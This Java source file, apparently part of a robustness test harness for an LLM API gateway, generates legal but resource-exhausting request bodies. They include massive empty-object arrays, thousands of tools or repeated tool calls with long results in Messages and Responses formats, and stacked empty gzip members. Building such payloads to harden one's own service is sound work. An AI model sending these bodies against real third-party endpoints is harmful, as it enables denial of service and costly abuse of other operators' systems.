package cortex.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.GZIPOutputStream;

/// Small requests that are large, and cheap ones that are dear. All are legal JSON.
final class Bombs {
    private Bombs() {}

    /// A body whose last field is a list of so many bytes of empty objects.
    static byte[] objects(String head, int bytes) {
        StringBuilder body = new StringBuilder(bytes + 200).append(head).append("\"x\":[{}");
        while (body.length() < bytes) {
            body.append(",{}");
        }
        return body.append("]}").toString().getBytes(StandardCharsets.UTF_8);
    }

    /// A list of the same turn over and over.
    static byte[] turns(String head, String field, String turn, int count) {
        StringBuilder body =
                new StringBuilder().append(head).append('"').append(field).append("\":[");
        for (int i = 0; i < count; i++) {
            body.append(i == 0 ? "" : ",").append(turn);
        }
        return body.append("]}").toString().getBytes(StandardCharsets.UTF_8);
    }

    /// So many tools, and as many that are allowed.
    static byte[] tools(String model, int count) {
        StringBuilder tools = new StringBuilder();
        StringBuilder allowed = new StringBuilder();
        for (int i = 0; i < count; i++) {
            String comma = i == 0 ? "" : ",";
            tools.append(comma)
                    .append("{\"type\":\"function\",\"function\":{\"name\":\"t")
                    .append(i)
                    .append("\",\"parameters\":{}}}");
            allowed.append(comma)
                    .append("{\"type\":\"function\",\"function\":{\"name\":\"t")
                    .append(i)
                    .append("\"}}");
        }
        return ("{\"model\":\""
                        + model
                        + "\",\"max_tokens\":1,"
                        + "\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],"
                        + "\"tools\":["
                        + tools
                        + "],\"tool_choice\":{\"type\":\"allowed_tools\",\"allowed_tools\":"
                        + "{\"mode\":\"auto\",\"tools\":["
                        + allowed
                        + "]}}}")
                .getBytes(StandardCharsets.UTF_8);
    }

    /// So many calls of one id in a Messages request, and one long result for it.
    static byte[] calls(String model, int count, int length) {
        return ("{\"model\":\""
                        + model
                        + "\",\"max_tokens\":1,\"messages\":[{\"role\":\"user\",\"content\":"
                        + "\"x\"},{\"role\":\"assistant\",\"content\":["
                        + "{\"type\":\"tool_use\",\"id\":\"a\",\"name\":\"f\",\"input\":{}},"
                                .repeat(count)
                        + "{\"type\":\"text\",\"text\":\"t\"}]},{\"role\":\"user\",\"content\":["
                        + "{\"type\":\"tool_result\",\"tool_use_id\":\"a\",\"content\":\""
                        + "y".repeat(length)
                        + "\"}]}]}")
                .getBytes(StandardCharsets.UTF_8);
    }

    /// The same as OpenAI Responses have it.
    static byte[] outputs(String model, int count, int length) {
        return ("{\"model\":\""
                        + model
                        + "\",\"input\":[{\"role\":\"user\",\"content\":\"x\"},"
                        + ("{\"type\":\"function_call\",\"call_id\":\"a\",\"name\":\"f\","
                                        + "\"arguments\":\"{}\"},")
                                .repeat(count)
                        + "{\"type\":\"function_call_output\",\"call_id\":\"a\",\"output\":\""
                        + "y".repeat(length)
                        + "\"}]}")
                .getBytes(StandardCharsets.UTF_8);
    }

    /// So many tools in a namespace whose name is as long.
    static byte[] namespace(String model, int count, int length) {
        StringBuilder tools = new StringBuilder();
        for (int i = 0; i < count; i++) {
            tools.append(i == 0 ? "" : ",")
                    .append("{\"type\":\"function\",\"name\":\"f")
                    .append(i)
                    .append("\"}");
        }
        return ("{\"model\":\""
                        + model
                        + "\",\"input\":\"x\",\"tools\":[{\"type\":\"namespace\",\"name\":\""
                        + "n".repeat(length)
                        + "\",\"tools\":["
                        + tools
                        + "]}]}")
                .getBytes(StandardCharsets.UTF_8);
    }

    /// A turn of so many tiny parts.
    static byte[] parts(String model, int count) {
        return ("{\"model\":\""
                        + model
                        + "\",\"max_tokens\":1,\"messages\":[{\"role\":\"user\",\"content\":["
                        + "{\"type\":\"text\",\"text\":\"a\"},".repeat(count)
                        + "{\"type\":\"text\",\"text\":\"a\"}]}]}")
                .getBytes(StandardCharsets.UTF_8);
    }

    /// So many tools that are given by their type alone.
    static byte[] knownTools(String model, int count) {
        StringBuilder tools = new StringBuilder();
        for (int i = 0; i < count; i++) {
            tools.append(i == 0 ? "" : ",")
                    .append("{\"type\":\"memory_20250818\",\"name\":\"e")
                    .append(i)
                    .append("\"}");
        }
        return ("{\"model\":\""
                        + model
                        + "\",\"max_tokens\":1,\"messages\":[{\"role\":\"user\",\"content\":"
                        + "\"x\"}],\"tools\":["
                        + tools
                        + "]}")
                .getBytes(StandardCharsets.UTF_8);
    }

    /// So many empty members of gzip.
    static byte[] members(int count) {
        byte[] member = gzip(new byte[0]);
        byte[] all = new byte[count * member.length];
        for (int at = 0; at < all.length; at += member.length) {
            System.arraycopy(member, 0, all, at, member.length);
        }
        return all;
    }

    static byte[] gzip(byte[] body) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(body);
        } catch (IOException e) {
            throw new IllegalStateException("an array takes all", e);
        }
        return out.toByteArray();
    }
}
